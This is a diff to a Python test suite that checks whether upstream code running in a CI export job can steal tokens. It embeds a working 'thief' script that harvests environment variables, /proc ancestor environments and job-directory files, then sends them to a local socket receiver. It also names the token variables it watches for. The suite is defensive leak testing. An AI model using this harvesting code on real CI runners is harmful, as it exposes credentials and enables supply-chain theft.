@@ -13,19 +13,21 @@ from tests.conftest import write_recipe
 from tests.workflows.conftest import UPSTREAM, commit_upstream, pin
 
 EXPORT = "Export, and run every gate"
-# What a thief would try: its own environment, that of every ancestor, the files that tokens lie
-# in, and whatever else the job's directories hold; all of it is sent away.
+# What a thief would try: its own environment, that of every process of the job above it, and
+# every file that the job's directories hold; all of it is sent away.
 THEFT = '''
 import os, pathlib, socket
 
 def loot():
     yield repr(dict(os.environ))
-    places, pid = [pathlib.Path.home()], os.getpid()
+    places, pid = [], os.getpid()
     while pid > 1:
         process = pathlib.Path("/proc", str(pid))
         try:
             variables = process.joinpath("environ").read_bytes().decode(errors="replace")
             yield variables + process.joinpath("cmdline").read_text(errors="replace")
+            if pid != os.getpid() and "GITHUB_WORKSPACE=" not in variables:
+                break  # the machine's own processes
             for text in variables.split("\\0"):
                 name, _, value = text.partition("=")
                 if name in ("HOME", "RUNNER_TEMP", "GITHUB_WORKSPACE"):
@@ -54,37 +56,42 @@ with socket.create_connection(("127.0.0.1", PORT), 10) as receiver:
 class Receiver:
     """Where the thief sends what it finds."""
 
-    port: int
+    listener: socket.socket
     received: list[bytes] = field(default_factory=list)
+    thread: threading.Thread | None = None
 
     @property
-    def text(self) -> str:
+    def port(self) -> int:
+        return int(self.listener.getsockname()[1])
+
+    def listen(self) -> None:
+        """Take what is sent, until somebody hangs up without a word."""
+        while True:
+            peer, _ = self.listener.accept()
+            with peer:
+                content = b"".join(iter(lambda: peer.recv(65536), b""))
+            if not content:
+                return
+            self.received.append(content)
+
+    def loot(self) -> str:
+        """Stop, and return all that came; the thief has hung up, for its job has ended."""
+        if self.thread is not None:
+            socket.create_connection(("127.0.0.1", self.port)).close()
+            self.thread.join(30)
+            self.thread = None
         return b"".join(self.received).decode(errors="replace")
 
 
 @contextlib.contextmanager
 def open_receiver() -> Iterator[Receiver]:
-    """Listen until the block ends; every thief has hung up by then, for its job has ended."""
-    listener = socket.create_server(("127.0.0.1", 0))
-    receiver = Receiver(listener.getsockname()[1])
-
-    def listen() -> None:
-        while True:
-            peer, _ = listener.accept()
-            with peer:
-                content = b"".join(iter(lambda: peer.recv(65536), b""))
-            if not content:
-                return
-            receiver.received.append(content)
-
-    thread = threading.Thread(target=listen, daemon=True)
-    thread.start()
-    try:
+    """Listen in a thread until the loot is fetched, or the block ends."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        receiver = Receiver(listener)
+        receiver.thread = threading.Thread(target=receiver.listen, daemon=True)
+        receiver.thread.start()
         yield receiver
-    finally:
-        socket.create_connection(("127.0.0.1", receiver.port)).close()
-        thread.join(10)
-        listener.close()
+        receiver.loot()
 
 
 @pytest.fixture
@@ -117,13 +124,14 @@ def test_upstream_code_finds_no_token_of_any_kind_in_the_export_job(robbed):
     project, receiver = robbed
     run = project.run(recipe="thief.toml").go(until="export")
     assert run.jobs["export"].result == "success", run.jobs["export"].log
-    loot = receiver.text
+    loot = receiver.loot()
     for seen in ("GITHUB_WORKSPACE=", "RUNNER_TEMP=", "repositoryformatversion", "thief.toml"):
         assert seen in loot, f"the thief did not even find {seen}"
     for secret in secrets_of(project):
         assert secret not in loot
-    for name in ("GH_TOKEN=", "GITHUB_TOKEN=", "ID_TOKEN_REQUEST", "SIGSTORE_ID_TOKEN="):
-        assert name not in loot
+    assert "\0GITHUB_RUN_ID=" in loot  # so would a token's variable stand in an environment
+    for name in ("GH_TOKEN", "GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "SIGSTORE_ID_TOKEN"):
+        assert f"\0{name}=" not in loot
 
 
 def give_token_to_the_step(workflow) -> None:
@@ -149,4 +157,5 @@ def test_the_thief_would_find_a_token_if_the_workflow_made_a_mistake(robbed, mis
     project, receiver = robbed
     run = project.run(mistake, recipe="thief.toml").go(until="export")
     assert run.jobs["export"].result == "success", run.jobs["export"].log
-    assert any(secret in receiver.text for secret in secrets_of(project))
+    loot = receiver.loot()
+    assert any(secret in loot for secret in secrets_of(project))
